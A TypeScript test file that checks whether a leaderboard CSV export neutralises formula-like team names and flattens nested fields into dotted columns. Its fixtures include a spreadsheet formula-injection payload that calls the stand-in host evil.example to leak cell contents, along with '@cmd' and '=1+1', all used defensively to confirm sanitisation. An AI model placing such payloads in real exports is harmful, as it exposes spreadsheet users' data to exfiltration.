/** A leaderboard with formula-like team names exports as text (the core's CSV export, end to end). */
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createDispatcher, type Dispatch } from '../../src/core/dispatch';
import { MemorySecretStore } from '../../src/core/secrets';
import { openWorkbench, type Workbench } from '../../src/core/workbench';
import type { CsvExport } from '../../src/shared/contract';
import { type FakePlatform, sendData, startFakePlatform } from '../helpers/fakePlatform';
import { tempDir } from '../helpers/tempDir';

let server: FakePlatform;
let wb: Workbench;
let dispatch: Dispatch;

beforeAll(async () => {
  server = await startFakePlatform({
    '/competitions/c1/leaderboard': (_req, res) =>
      sendData(res, {
        items: [
          { rank: 1, team: '=HYPERLINK("https://evil.example/?d="&A1,"Prize")', score: 10 },
          { rank: 2, team: '@cmd', score: -1 },
          { rank: 3, team: 'Plain team', score: 0 },
        ],
        nextCursor: null,
      }),
    '/competitions/c2/leaderboard': (_req, res) =>
      sendData(res, {
        items: [
          { position: 1, team: { number: 7, label: '=1+1' }, points: 12, r: [0, 2] },
          { position: 2, team: { number: 9, label: 'Plain' }, points: -1 },
        ],
        nextCursor: null,
      }),
  });
  wb = await openWorkbench({
    dataDir: tempDir('wb-csv-'),
    version: '0.0.0-test',
    builtinSandbox: { baseUrl: server.baseUrl, apiKey: 'sandbox-key' },
    secrets: new MemorySecretStore(),
    heartbeatMs: 60_000,
    probeMs: 60_000,
  });
  dispatch = createDispatcher(wb.handlers);
});
afterAll(async () => {
  await wb.close();
  await server.close();
});

it('leaderboard.exportCsv neutralises formulas and keeps numbers', async () => {
  const res = await dispatch('leaderboard.exportCsv', { table: 'leaderboard', competitionId: 'c1' });
  expect(res.ok).toBe(true);
  const { csv, rows } = (res as { value: CsvExport }).value;
  expect(rows).toBe(3);
  expect(Papa.parse<string[]>(csv.trim()).data).toEqual([
    ['rank', 'team', 'score'],
    ['1', `'=HYPERLINK("https://evil.example/?d="&A1,"Prize")`, '10'],
    ['2', "'@cmd", '-1'],
    ['3', 'Plain team', '0'],
  ]);
});

it('leaderboard.exportCsv spreads nested fields into dotted columns, still formula-safe', async () => {
  const res = await dispatch('leaderboard.exportCsv', { table: 'leaderboard', competitionId: 'c2' });
  expect(res.ok).toBe(true);
  const { csv } = (res as { value: CsvExport }).value;
  expect(Papa.parse<string[]>(csv.trim()).data).toEqual([
    ['position', 'team.number', 'team.label', 'points', 'r'],
    ['1', '7', "'=1+1", '12', '0, 2'],
    ['2', '9', 'Plain', '-1', ''],
  ]);
});
